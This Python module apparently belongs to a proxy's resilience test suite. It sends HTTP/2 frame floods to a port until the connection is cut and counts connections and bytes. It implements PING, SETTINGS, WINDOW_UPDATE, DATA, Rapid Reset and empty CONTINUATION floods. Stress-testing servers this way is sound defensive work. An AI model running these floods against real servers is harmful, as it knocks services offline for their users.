"""Frames that cost the client nothing, sent until the proxy cuts the connection."""

import time

from attacks import http2
from attacks.connection import CUT

# Frames in one write, and writes on one connection: enough for any limit to act.
BATCH, MOST_BATCHES = 100, 500


def opened(port, seconds):
    """Connections that only begin: how many there were, and the bytes they sent."""
    return count(port, seconds, lambda connection: None)


def flood(make):
    """An attack that sends batches of `make(n)`, where n counts the frames of a connection."""
    return lambda port, seconds: count(port, seconds, lambda connection: pour(connection, make))


def count(port, seconds, act):
    connections, sent, limit = 0, 0, time.monotonic() + seconds
    while time.monotonic() < limit:
        connections += 1
        sent += until_cut(port, act)
    return connections, sent


def until_cut(port, act):
    try:
        with http2.opened(port) as connection:
            act(connection)
            return connection.sent()
    except CUT:
        return 0


def pour(connection, make):
    connection.send(http2.upload(1))
    for batch in range(MOST_BATCHES):
        numbers = range(batch * BATCH, (batch + 1) * BATCH)
        if not connection.try_send(b"".join(map(make, numbers))):
            return
        connection.drain()


def ping(_):
    return http2.frame(http2.PING, payload=bytes(8))


def settings(_):
    return http2.frame(http2.SETTINGS)


def window_update(_):
    return http2.frame(http2.WINDOW_UPDATE, stream=1, payload=b"\0\0\0\1")


def empty_data(_):
    return http2.frame(http2.DATA, stream=1)


def one_byte_data(_):
    return http2.frame(http2.DATA, stream=1, payload=b"x")


def rapid_reset(number):
    stream = 2 * number + 3
    reset = http2.frame(http2.RST_STREAM, stream=stream, payload=bytes(4))
    return http2.request(stream) + reset


def continuation(number):
    if number:
        return http2.frame(http2.CONTINUATION, stream=3)
    return http2.frame(http2.HEADERS, http2.END_STREAM, 3, http2.head())


FLOODS = {
    "PING": ping,
    "SETTINGS": settings,
    "WINDOW_UPDATE": window_update,
    "empty DATA": empty_data,
    "DATA of one byte": one_byte_data,
    "requests that are reset": rapid_reset,
    "empty CONTINUATION": continuation,
}
